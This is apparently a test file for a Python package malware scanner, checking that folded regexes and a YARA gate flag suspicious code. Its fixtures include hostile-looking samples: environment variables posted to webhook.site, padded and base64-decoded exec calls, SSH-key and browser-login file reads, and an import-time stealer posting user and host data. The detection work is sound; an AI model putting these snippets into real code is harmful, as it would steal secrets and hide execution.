"""The pre-pass: folded patterns answer as the case-insensitive originals, and the YARA gate
finds the same tokens as the regular expressions and sends only files that can matter to
libcst."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner import testing
from scanner.analyzers.python import IMPORT_ROLE, gate, tokens
from scanner.analyzers.python.engine import Engine
from scanner.model import Context, VerdictLevel
from scanner.pipeline import scan

PAIRS = [(tokens.IND_T, tokens.IND_FOLDED), (tokens.STRONG, tokens.STRONG_FOLDED),
         (tokens.SRC_T, tokens.SRC_FOLDED)]
SAMPLES = [
    b"requests.post('https://WEBHOOK.SITE/abc', data=dict(OS.environ))",
    b"x = 1" + b" " * 160 + b"exec(payload)",
    b"import base64; exec(base64.B64DECODE('" + b"QUJD" * 20 + b"'))",
    b"HOME/.SSH/id_rsa", b"open('Login Data')", b"Stratum+TCP://pool", b"nothing here at all",
    b"subprocess.Popen(['curl', url])", b"winreg CurrentVersion\\\\Run",
]


@pytest.mark.parametrize("sample", SAMPLES)
@pytest.mark.parametrize("original,folded", PAIRS)
def test_folded_pattern_agrees_on_known_samples(original, folded, sample):
    assert folded.search(sample.lower()) == bool(original.search(sample))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SAMPLES + [b"\t", b" ", b"(", b"'", b"A", b"z", b"\n"]),
                max_size=12).map(b"".join))
def test_folded_pattern_agrees_on_mixtures(text):
    for original, folded in PAIRS:
        assert folded.search(text.lower()) == bool(original.search(text))


# ----- the YARA gate (scanner.analyzers.python.gate) -----------------------------------------
FAMILIES = {"exec": tokens.EXEC_T, "decode": tokens.DECODE_T, "spawn": tokens.SPAWN_T,
            "net": tokens.NET_T, "ind": tokens.IND_T}
FILLER = b"def helper_%d(value):\n    return value * 2 + %d\n\n\n"


def _library(*functions: bytes, size: int = 20_000) -> bytes:
    """A big library module: many harmless functions around the given ones."""
    body = b"import os\nimport subprocess\nimport requests\n\n\n" + b"".join(functions)
    index = 0
    while len(body) < size:
        body += FILLER % (index, index)
        index += 1
    return body


@pytest.mark.parametrize("sample", SAMPLES + [b"platform.system()", b"x.exec(1)", b"EXEC(x)"])
def test_gate_finds_each_family_exactly_where_the_regex_does(sample):
    found = gate.scan(sample)
    for family, pattern in FAMILIES.items():
        if family == "ind" and tokens.IND_T.search(sample) and b" " * 150 in sample:
            continue  # padding is found outside YARA (gate._padded)
        assert found.has(family) == bool(pattern.search(sample)), family


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(SAMPLES + [b"\t", b" ", b"(", b"'", b"A", b"z", b"\n", b".",
                                           b"exec", b"system (", b"socket.socket"]),
                max_size=12).map(b"".join))
def test_gate_families_agree_with_the_regexes(text):
    found = gate.scan(text)
    for family, pattern in FAMILIES.items():
        if family != "ind":
            assert found.has(family) == bool(pattern.search(text)), family


def test_capability_in_module_code_of_a_big_file_is_found_by_ast():
    block = b"try:\n    requests.get('https://example.invalid')\nexcept Exception:\n    pass\n"
    assert gate.reason(_library() + block) == "capability in module code"
    wrapped = b"if TYPE_CHECKING:\n    import httpx\n" + b'"""requests.get(x) in a docstring"""\n'
    assert gate.reason(_library() + wrapped) is None


def test_capabilities_spread_over_a_big_library_need_no_tree():
    data = _library(b"def run(cmd):\n    return subprocess.run(cmd)\n\n\n",
                    b"def fetch(url):\n    return requests.get(url, timeout=5)\n\n\n",
                    b"def host():\n    return os.uname()\n\n\n")
    assert len(data) > tokens.SMALL_FILE
    assert gate.reason(data) is None


def test_a_chain_inside_one_definition_needs_a_tree():
    data = _library(b"def beacon():\n    name = os.uname()\n"
                    b"    requests.post('https://example.invalid/x', data=str(name))\n\n\n")
    assert gate.reason(data) == "net and src in one definition"


def test_module_code_calling_a_capability_needs_a_tree():
    data = _library(b"def run(cmd):\n    return subprocess.run(cmd)\n\n\n") + b"run(['id'])\n"
    assert gate.reason(data) == "module-level call"
    assert gate.reason(data.replace(b"run(['id'])", b"print(['id'])")) is None


def test_a_risky_unindented_line_needs_a_tree_but_prose_in_a_literal_does_not():
    assert gate.reason(_library() + b"requests.get('https://example.invalid')\n") == \
        "module-level call"
    literal = b"SPEC = {\n'desc': 'opened issues, commits and pull requests.',\n}\n"
    assert gate.reason(_library() + literal) is None


def test_small_files_and_indicators_still_get_a_tree():
    helpers = (b"def get(u):\n    return requests.get(u).content\n\n\n"
               b"def run(p):\n    subprocess.Popen(p)\n")
    assert gate.reason(helpers) == "small file with two capabilities"
    assert gate.reason(b"def f():\n    return subprocess.run(['ls'])\n") is None
    assert gate.reason(b"try:\n    subprocess.run(['ls'])\nexcept OSError:\n    pass\n") == \
        "capability in module code"
    assert gate.reason(_library(b"WEBHOOK = 'https://webhook.site/abc'\n")) == "indicator"
    padded = _library() + b"x = 1" + b" \t" * 100 + b"exec(code)\n"
    assert gate.reason(padded) == "indicator"


def test_a_big_module_calling_its_stealer_at_import_is_still_found():
    stealer = (b"def collect():\n    who = {'user': getpass.getuser(), 'host': os.uname()}\n"
               b"    requests.post('https://example.invalid/k', json=who)\n\n\n")
    data = b"import getpass\n" + _library(stealer) + b"collect()\n"
    assert gate.reason(data) == "module-level call"
    wheel = testing.wheel_bytes("biglib", "1.0", {"biglib/__init__.py": data})
    result = scan(wheel, filename=testing.wheel_filename("biglib", "1.0"))
    flows = [f for f in result.findings if f.rule == "python.flow.fingerprint-to-network"]
    assert flows and flows[0].context is Context.IMPORT and flows[0].line == 9
    assert result.verdict.level is not VerdictLevel.CLEAN


def test_a_big_benign_library_is_clean_without_a_tree():
    engine = Engine()
    data = _library(b"def run(cmd):\n    return subprocess.run(cmd, env=dict(PATH='/bin'))\n\n\n")
    result = engine.analyse(data, "lib/tools.py", IMPORT_ROLE, force_tree=False)
    assert result.findings == [] and engine.stats.bytes_tree == 0
